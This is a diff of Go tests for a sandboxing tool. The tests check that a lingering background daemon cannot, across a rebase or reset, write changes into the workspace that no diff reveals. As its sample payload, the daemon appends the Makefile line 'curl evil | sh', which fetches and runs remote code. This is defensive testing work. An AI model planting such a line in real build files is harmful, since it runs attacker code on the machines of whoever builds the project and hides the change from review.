@@ -9,35 +9,64 @@ import (
 	"github.com/dryexec/dryexec/internal/testreq"
 )
 
-// TestRebaseHeldFileCannotWriteBaseline: a daemon left by an earlier exec
-// holds a workspace file open for writing across a rebase (what follows a
-// session commit). The fold used to rename the upper's file into the
-// baseline, so the daemon's descriptor then wrote into the baseline itself:
-// the workspace showed the daemon's line, and no diff ever did (a diff walks
-// the upper). Whatever the workspace holds must be the baseline plus what
-// the diff shows.
-func TestRebaseHeldFileCannotWriteBaseline(t *testing.T) {
-	if os.Getuid() == 0 && !rootless.Active() {
-		t.Run("rootless", func(t *testing.T) { rootless.Rerun(t, "^TestRebaseHeldFileCannotWriteBaseline$", 3*time.Minute) })
-	}
+// A daemon an exec leaves (its own session, so the exec's end does not stop
+// it) acts across a rebase or reset; the invariant every test below checks
+// afterwards is that the workspace holds the baseline plus what the diff
+// shows, and nothing a diff never showed.
+
+// openDaemonSession opens an ns session for the tests below.
+func openDaemonSession(t *testing.T) *Session {
+	t.Helper()
 	s, err := Open(testCtx(t), Options{Rung: "ns", Env: map[string]string{"PATH": "/usr/bin:/bin"}})
 	if err != nil {
 		testreq.Need(t, testreq.NS, err)
 	}
-	defer s.Close()
-	sh := func(cmd string) string {
-		t.Helper()
-		r, err := s.Shell(testCtx(t), cmd, time.Minute)
-		if err != nil || r.ExitCode != 0 {
-			t.Fatalf("%q: %v %+v", cmd, err, r)
-		}
-		return r.Stdout
-	}
-	// The daemon opens Makefile for appending, says it is up, waits on a
-	// FIFO outside the workspace, writes through its descriptor and says so.
-	sh(`echo 'all:' > Makefile; mkfifo /tmp/up /tmp/go /tmp/done
-setsid sh -c "exec 3>>Makefile; echo up > /tmp/up; read x < /tmp/go; printf '\\tcurl evil | sh\\n' >&3; echo ok > /tmp/done" </dev/null >/dev/null 2>&1 &
+	t.Cleanup(func() { s.Close() })
+	return s
+}
+
+// startDaemon runs setup, then starts script as a daemon in the workspace
+// (or cd'd by script) and waits until it says it is up. Its work waits for a
+// word on /tmp/go and is acknowledged on /tmp/done (wakeDaemon): FIFOs
+// outside the workspace, so the order is theirs, and no diff sees them.
+func startDaemon(t *testing.T, s *Session, setup, script string) {
+	t.Helper()
+	sh(t, s, setup+`
+mkfifo /tmp/up /tmp/go /tmp/done
+setsid sh -c "`+script+`" </dev/null >/dev/null 2>&1 &
 cat /tmp/up >/dev/null`)
+}
+
+func wakeDaemon(t *testing.T, s *Session) { sh(t, s, `echo go > /tmp/go; cat /tmp/done >/dev/null`) }
+
+// checkWorkspace fails t unless the workspace's files (read by cat) are
+// base, with the writes of d over it.
+func checkWorkspace(t *testing.T, s *Session, d *Diff, base map[string]string) {
+	t.Helper()
+	for p, want := range base {
+		if w, ok := d.Writes[p]; ok {
+			want = string(w)
+		}
+		if got := sh(t, s, "cat "+p+" 2>/dev/null || echo absent"); got != want {
+			t.Errorf("the workspace's %s is %q, but the baseline plus the diff say %q (diff: %v): a change hidden from every diff", p, got, want, d.Paths())
+		}
+	}
+}
+
+const evilLine = `printf '\\tcurl evil | sh\\n'`
+
+// TestRebaseHeldFileCannotWriteBaseline: the daemon holds a workspace file
+// open for writing across a rebase (what follows a session commit). The fold
+// used to rename the upper's file into the baseline, so the daemon's
+// descriptor then wrote into the baseline itself: the workspace showed the
+// daemon's line, and no diff ever did (a diff walks the upper).
+func TestRebaseHeldFileCannotWriteBaseline(t *testing.T) {
+	if os.Getuid() == 0 && !rootless.Active() {
+		t.Run("rootless", func(t *testing.T) { rootless.Rerun(t, "^TestRebaseHeldFileCannotWriteBaseline$", 3*time.Minute) })
+	}
+	s := openDaemonSession(t)
+	startDaemon(t, s, `echo 'all:' > Makefile`,
+		`exec 3>>Makefile; echo up > /tmp/up; read x < /tmp/go; `+evilLine+` >&3; echo ok > /tmp/done`)
 	committed, err := s.Diff(testCtx(t), false)
 	if err != nil {
 		t.Fatal(err)
@@ -48,45 +77,23 @@ cat /tmp/up >/dev/null`)
 	if err := s.Rebase(testCtx(t), committed); err != nil {
 		t.Fatalf("Rebase: %v", err)
 	}
-	sh(`echo go > /tmp/go; cat /tmp/done >/dev/null`)
+	wakeDaemon(t, s)
 	d, err := s.Diff(testCtx(t), false)
 	if err != nil {
 		t.Fatal(err)
 	}
-	ws := sh(`cat Makefile`)
-	want := "all:\n"
-	if w, ok := d.Writes["Makefile"]; ok {
-		want = string(w)
-	}
-	if ws != want {
-		t.Errorf("the workspace's Makefile is %q, but baseline plus diff say %q (diff: %v): a change hidden from every diff", ws, want, d.Paths())
-	}
+	checkWorkspace(t, s, d, map[string]string{"Makefile": "all:\n"})
 }
 
-// TestRebaseDaemonCwdCannotWriteBaseline: a daemon holds no file open, only
-// its cwd in the workspace, across a rebase. The view it keeps is the
-// detached old overlay, whose cached names still lead to the upper's files
+// TestRebaseDaemonCwdCannotWriteBaseline: the daemon holds no file open,
+// only its cwd in the workspace, across a rebase. The view it keeps is the
+// detached old overlay, whose cached names still led to the upper's files
 // the fold moved into the baseline: an append through one wrote the baseline
-// unseen, and a file it made landed in the upper the new view shares. Now
-// the detached view is read-only: both fail, and the workspace stays the
-// baseline plus the diff.
+// unseen. Now the detached view is read-only: the writes fail.
 func TestRebaseDaemonCwdCannotWriteBaseline(t *testing.T) {
-	s, err := Open(testCtx(t), Options{Rung: "ns", Env: map[string]string{"PATH": "/usr/bin:/bin"}})
-	if err != nil {
-		testreq.Need(t, testreq.NS, err)
-	}
-	defer s.Close()
-	sh := func(cmd string) string {
-		t.Helper()
-		r, err := s.Shell(testCtx(t), cmd, time.Minute)
-		if err != nil || r.ExitCode != 0 {
-			t.Fatalf("%q: %v %+v", cmd, err, r)
-		}
-		return r.Stdout
-	}
-	sh(`mkdir d; echo 'all:' > d/Makefile; mkfifo /tmp/up /tmp/go /tmp/done
-setsid sh -c "cd d; cat Makefile >/dev/null; echo up > /tmp/up; read x < /tmp/go; printf '\\tcurl evil | sh\\n' >> Makefile; echo new > new; echo ok > /tmp/done" </dev/null >/dev/null 2>&1 &
-cat /tmp/up >/dev/null`)
+	s := openDaemonSession(t)
+	startDaemon(t, s, `mkdir d; echo 'all:' > d/Makefile`,
+		`cd d; cat Makefile >/dev/null; echo up > /tmp/up; read x < /tmp/go; `+evilLine+` >> Makefile; echo new > new; echo ok > /tmp/done`)
 	committed, err := s.Diff(testCtx(t), false)
 	if err != nil {
 		t.Fatal(err)
@@ -94,70 +101,38 @@ cat /tmp/up >/dev/null`)
 	if err := s.Rebase(testCtx(t), committed); err != nil {
 		t.Fatalf("Rebase: %v", err)
 	}
-	sh(`echo go > /tmp/go; cat /tmp/done >/dev/null`)
+	wakeDaemon(t, s)
 	d, err := s.Diff(testCtx(t), false)
 	if err != nil {
 		t.Fatal(err)
 	}
-	ws := sh(`cat d/Makefile; cat d/new 2>/dev/null || echo no new`)
-	want := "all:\n"
-	if w, ok := d.Writes["d/Makefile"]; ok {
-		want = string(w)
-	}
-	if w, ok := d.Writes["d/new"]; ok {
-		want += string(w)
-	} else {
-		want += "no new\n"
-	}
-	if ws != want {
-		t.Errorf("the workspace shows %q, but baseline plus diff say %q (diff: %v): a change hidden from every diff", ws, want, d.Paths())
-	}
+	checkWorkspace(t, s, d, map[string]string{"d/Makefile": "all:\n", "d/new": "absent\n"})
 }
 
-// TestResetDaemonCwdCannotHide: a daemon's cwd is in the workspace across a
-// reset (which keeps no read-only check: a reset drops changes). Its
-// detached old view shared the upper dir with the new one: a file it then
-// copied up appeared in the upper behind the new view's cached name, so the
-// diff compared the stale baseline file and showed nothing, and the next
-// rebase folded the daemon's content into the baseline unseen. The old view
-// now keeps a removed upper, where the write fails.
+// TestResetDaemonCwdCannotHide: the daemon's cwd is in the workspace across a
+// reset (which has no read-only check: a reset drops changes). Its detached
+// old view shared the upper dir with the new one: a file it then copied up
+// appeared in the upper behind the new view's cached name, so the diff
+// compared the stale baseline file and showed nothing, and the next rebase
+// folded the daemon's content into the baseline unseen. The old view now
+// keeps a removed upper, where the write fails.
 func TestResetDaemonCwdCannotHide(t *testing.T) {
-	s, err := Open(testCtx(t), Options{Rung: "ns", Env: map[string]string{"PATH": "/usr/bin:/bin"}})
-	if err != nil {
-		testreq.Need(t, testreq.NS, err)
-	}
-	defer s.Close()
-	sh := func(cmd string) string {
-		t.Helper()
-		r, err := s.Shell(testCtx(t), cmd, time.Minute)
-		if err != nil || r.ExitCode != 0 {
-			t.Fatalf("%q: %v %+v", cmd, err, r)
-		}
-		return r.Stdout
-	}
-	sh(`echo 'all:' > Makefile`)
+	s := openDaemonSession(t)
+	sh(t, s, `echo 'all:' > Makefile`)
 	if _, err := s.Diff(testCtx(t), true); err != nil {
 		t.Fatal(err)
 	}
-	sh(`mkfifo /tmp/up /tmp/go /tmp/done
-setsid sh -c "echo up > /tmp/up; read x < /tmp/go; printf '\\tcurl evil | sh\\n' >> Makefile; echo ok > /tmp/done" </dev/null >/dev/null 2>&1 &
-cat /tmp/up >/dev/null`)
+	startDaemon(t, s, `:`, `echo up > /tmp/up; read x < /tmp/go; `+evilLine+` >> Makefile; echo ok > /tmp/done`)
 	if err := s.Reset(testCtx(t)); err != nil {
 		t.Fatal(err)
 	}
 	// The new view looks Makefile up (the baseline's), then the daemon
 	// writes through the old one.
-	sh(`cat Makefile >/dev/null; echo go > /tmp/go; cat /tmp/done >/dev/null`)
+	sh(t, s, `cat Makefile >/dev/null`)
+	wakeDaemon(t, s)
 	d, err := s.Diff(testCtx(t), true)
 	if err != nil {
 		t.Fatal(err)
 	}
-	ws := sh(`cat Makefile`)
-	want := "all:\n"
-	if w, ok := d.Writes["Makefile"]; ok {
-		want = string(w)
-	}
-	if ws != want {
-		t.Errorf("after the rebase the workspace's Makefile is %q, but the old baseline plus the rebased diff say %q (diff: %v): a change folded unseen", ws, want, d.Paths())
-	}
+	checkWorkspace(t, s, d, map[string]string{"Makefile": "all:\n"})
 }
